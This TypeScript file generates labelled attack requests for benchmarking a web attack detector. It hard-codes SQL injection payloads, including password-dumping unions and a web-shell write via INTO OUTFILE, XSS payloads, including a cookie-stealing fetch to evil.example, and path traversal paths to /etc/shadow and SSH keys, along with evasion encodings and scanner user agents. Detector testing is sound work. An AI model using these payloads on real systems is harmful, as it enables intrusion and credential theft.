/**
 * Labelled attack requests for the detector benchmark:
 *
 * - generated: payloads of each class written for this benchmark, in the evasion variants
 *   scanners use (mixed case, comment-split keywords, double encoding, overlong UTF-8…),
 *   embedded in realistic paths and parameters;
 * - public lists: every line of ../shared/corpus/{sqli,xss,traversal}/*.txt (read at run time,
 *   never copied here), injected into a parameter value the way a browser form would encode it.
 *
 * sqlmap's templates hold placeholders (`[RANDNUM]`, `[SLEEPTIME]`, `__TIME__`…) that the tool
 * fills in before sending; they are filled here the same way, one value per name per payload.
 */
import fs from 'node:fs';
import path from 'node:path';
import type { AttackClass } from '../src/detectors/types';
import { BROWSER_UAS, type BenchRequest } from './corpus-benign';
import { formEncode, type Rng } from './rng';

export type PayloadClass = Exclude<AttackClass, 'scanner'>;

export interface LabelledAttack extends BenchRequest {
  expected: AttackClass;
  /** For list payloads: `sqli/Generic-SQLi.txt:12`. */
  origin?: string;
  payload?: string;
}

const CONTEXTS: Record<PayloadClass, ReadonlyArray<(value: string) => string>> = {
  sqli: [
    (v) => `/products?id=${v}`,
    (v) => `/search?q=${v}&page=1`,
    (v) => `/item.php?cat=2&id=${v}`,
    (v) => `/api/v1/users?sort=name&filter=${v}`,
    (v) => `/login?username=${v}&remember=1`,
  ],
  xss: [
    (v) => `/search?q=${v}`,
    (v) => `/comment?post=42&text=${v}`,
    (v) => `/profile?name=${v}&lang=en`,
    (v) => `/error?msg=${v}&code=500`,
  ],
  traversal: [
    (v) => `/download?file=${v}`,
    (v) => `/index.php?page=${v}`,
    (v) => `/view?template=${v}&lang=en`,
    (v) => `/image?path=${v}&w=200`,
  ],
};

const SQLI = [
  "' or '1'='1",
  "' or 1=1--",
  '1 or 1=1',
  "admin'--",
  "admin' #",
  "' union select null,username,password from users--",
  '1 union all select 1,2,3,@@version--',
  '-1 union select 1,group_concat(table_name),3 from information_schema.tables where table_schema=database()',
  '1; drop table users--',
  "'; exec master..xp_cmdshell 'dir'--",
  "1' and sleep(5)--",
  '1 and benchmark(5000000,md5(1))',
  "'; waitfor delay '0:0:5'--",
  "1' and pg_sleep(5)--",
  "1' and extractvalue(1,concat(0x7e,version()))--",
  "' and updatexml(1,concat(0x7e,(select user())),1)--",
  '1 and 1=convert(int,@@version)--',
  "1' and 1=1--",
  "1' and 1=2--",
  '1 and 1=2',
  "' and (select count(*) from information_schema.tables)>0--",
  "' union select load_file('/etc/passwd'),2--",
  "' union select '<?php system($_GET[c]); ?>' into outfile '/var/www/shell.php'--",
  '1 and ascii(substring((select database()),1,1))>64',
  '") or ("a"="a',
  '1) or (1=1',
  "' or ''='",
  "1' order by 5--",
  '1;select pg_sleep(5)',
  "' and 1=(select top 1 name from sysobjects)--",
  "' || (select version()) || '",
  "1' rlike (select (case when (1=1) then 1 else 0x28 end))--",
  "x' and email is null; --",
  '1 having 1=1--',
];
const XSS = [
  '<script>alert(1)</script>',
  '"><script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg onload=confirm`1`>',
  '<iframe src="javascript:alert(1)">',
  'javascript:alert(document.domain)',
  "<body onload=alert('xss')>",
  "'><img src=1 onerror=prompt(1)>",
  '<a href="javascript:alert(1)">click</a>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)">',
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  '<marquee onstart=alert(1)>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '<div style="width:expression(alert(1))">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(String.fromCharCode(88,83,83))</script>',
  "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
  '</title><script>alert(1)</script>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<a href=javas&#99;ript:alert(1)>x</a>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<script>fetch("//evil.example/?c="+document.cookie)</script>',
];
const TRAVERSAL = [
  '../../../../etc/passwd',
  '../../../../../../etc/shadow',
  '....//....//....//etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/passwd',
  '/proc/self/environ',
  'php://filter/convert.base64-encode/resource=index.php',
  'file:///etc/passwd',
  'expect://id',
  '../../../../etc/passwd\u0000.jpg',
  'c:\\windows\\system32\\drivers\\etc\\hosts',
  'c:/boot.ini',
  '../../../../var/log/apache2/access.log',
  '..;/..;/..;/etc/passwd',
  '../../../../../../root/.ssh/id_rsa',
  '../../.env',
  '/var/www/html/.htpasswd',
  '../../../../../../../../windows/system32/config/sam',
  'phar://uploads/avatar.jpg/shell',
];

/** Evasion variants of a raw payload, each returned URL-encoded and ready for a query value. */
function variants(cls: PayloadClass, payload: string, rng: Rng): string[] {
  const mixed = payload.replace(/[a-z]/g, (c) => (rng.chance(0.5) ? c.toUpperCase() : c));
  const out = [formEncode(payload), formEncode(mixed), encodeURIComponent(encodeURIComponent(payload))];
  if (cls === 'sqli') {
    out.push(formEncode(payload.replace(/ /g, '/**/')), payload.replace(/ /g, '%09').replace(/'/g, '%27'));
    out.push(formEncode(payload.replace(/\bunion\b/gi, '/*!50000union*/')));
  } else if (cls === 'xss') {
    // Browsers drop a tab inside a scheme; JavaScript reads `\u0065` in an identifier as `e`.
    out.push(formEncode(payload.replace(/javascript:/g, 'java\tscript:').replace(/alert/g, 'al\\u0065rt')));
    out.push(payload.replace(/</g, '%3C').replace(/>/g, '%3E').replace(/ /g, '%20').replace(/"/g, '%22'));
  } else {
    out.push(payload.replace(/\.\.\//g, '%2e%2e%2f'), payload.replace(/\.\.\//g, '%252e%252e%252f'));
    out.push(
      payload.replace(/\.\.\//g, '..%c0%af'),
      payload.replace(/\//g, '%ef%bc%8f').replace(/ /g, '%20'),
    );
  }
  return out;
}

const BASES: Record<PayloadClass, readonly string[]> = { sqli: SQLI, xss: XSS, traversal: TRAVERSAL };

/** Generated attacks of one class: every payload × variant, in rotating contexts and UA strings. */
export function generatedAttacks(cls: PayloadClass, rng: Rng): LabelledAttack[] {
  const out: LabelledAttack[] = [];
  for (const payload of BASES[cls]) {
    for (const value of variants(cls, payload, rng)) {
      const uri = rng.pick(CONTEXTS[cls])(value);
      out.push({ method: 'GET', uri, userAgent: rng.pick(BROWSER_UAS), expected: cls, payload });
    }
  }
  // Traversal also arrives in the path itself.
  if (cls === 'traversal') {
    for (const p of [
      '/static/../../../../etc/passwd',
      '/..%2f..%2f..%2fetc/passwd',
      '/%2e%2e/%2e%2e/boot.ini',
      '/.git/config',
      '/.env',
    ]) {
      out.push({ method: 'GET', uri: p, userAgent: rng.pick(BROWSER_UAS), expected: cls, payload: p });
    }
  }
  return out;
}

export const SCANNER_UAS = [
  'sqlmap/1.7.2#stable (https://sqlmap.org)',
  'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)',
  'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
  'Mozilla/5.0 zgrab/0.x',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
  'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
  'gobuster/3.6',
  'Fuzz Faster U Fool v2.1.0-dev',
  'feroxbuster/2.10.1',
  'Mozilla/5.0 (compatible; Netsparker)',
  'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Acunetix Web Vulnerability Scanner',
  'w3af.org',
  'Havij',
  'Mozilla/5.0 (compatible; OpenVAS-VT 22.4)',
  'Mozilla/5.0 (compatible; Nessus; +https://www.tenable.com)',
  'commix/v3.8-stable (https://commixproject.com)',
  'WhatWeb/0.5.5',
  'Arachni/v1.6.1.3',
  'Mozilla/5.0 SF/2.10b',
  'ZmEu',
  'Jaeles - Web Scanner',
  'XSStrike',
  'Wfuzz/3.1.0',
  'Morfeus Fucking Scanner',
  'Mozilla/5.0 Jorgee',
];

/** Requests from scanner UA strings, to paths that are unremarkable by themselves. */
export function scannerRequests(rng: Rng, n: number): LabelledAttack[] {
  const paths = [
    '/',
    '/admin/',
    '/wp-login.php',
    '/robots.txt',
    '/index.php?id=1',
    '/login',
    '/api/v1/status',
  ];
  const out: LabelledAttack[] = [];
  for (let i = 0; i < n; i++) {
    const userAgent = SCANNER_UAS[i % SCANNER_UAS.length] ?? 'sqlmap';
    out.push({ method: 'GET', uri: rng.pick(paths), userAgent, expected: 'scanner' });
  }
  return out;
}

export interface ListFile {
  cls: PayloadClass;
  /** `sqli/Generic-SQLi.txt` */
  name: string;
  requests: LabelledAttack[];
}

/** sqlmap placeholders → one value per name per payload (a tautology compares a value with itself). */
function fillPlaceholders(payload: string, rng: Rng): string {
  const values = new Map<string, string>();
  return payload.replace(
    /\[(RANDNUM\d?|SLEEPTIME|RANDSTR\d?|DELIMITER_START|DELIMITER_STOP)\]|__TIME__/g,
    (m) => {
      let v = values.get(m);
      if (v === undefined) {
        if (m.startsWith('[RANDNUM')) v = String(1000 + rng.int(9000));
        else if (m === '[SLEEPTIME]' || m === '__TIME__') v = '5';
        else if (m === '[DELIMITER_START]') v = 'qvkzq';
        else if (m === '[DELIMITER_STOP]') v = 'qbxjq';
        else v = 'abcdefghijklmnopqrstuvwxyz'.slice(rng.int(10), 14 + rng.int(10));
        values.set(m, v);
      }
      return v;
    },
  );
}

/** The public payload lists, one request per non-empty line. */
export function listAttacks(corpusDir: string, rng: Rng): ListFile[] {
  const files: ListFile[] = [];
  for (const cls of ['sqli', 'xss', 'traversal'] as const) {
    const dir = path.join(corpusDir, cls);
    if (!fs.existsSync(dir)) continue;
    for (const file of fs
      .readdirSync(dir)
      .filter((f) => f.endsWith('.txt'))
      .sort()) {
      const lines = fs.readFileSync(path.join(dir, file), 'utf8').split('\n');
      const requests: LabelledAttack[] = [];
      lines.forEach((raw, i) => {
        const line = raw.endsWith('\r') ? raw.slice(0, -1) : raw;
        if (line.trim() === '') return;
        const payload = fillPlaceholders(line, rng);
        const contexts = CONTEXTS[cls];
        const uri = (contexts[i % contexts.length] ?? contexts[0] ?? ((v: string) => v))(formEncode(payload));
        requests.push({
          method: 'GET',
          uri,
          userAgent: rng.pick(BROWSER_UAS),
          expected: cls,
          origin: `${cls}/${file}:${i + 1}`,
          payload: line,
        });
      });
      files.push({ cls, name: `${cls}/${file}`, requests });
    }
  }
  return files;
}
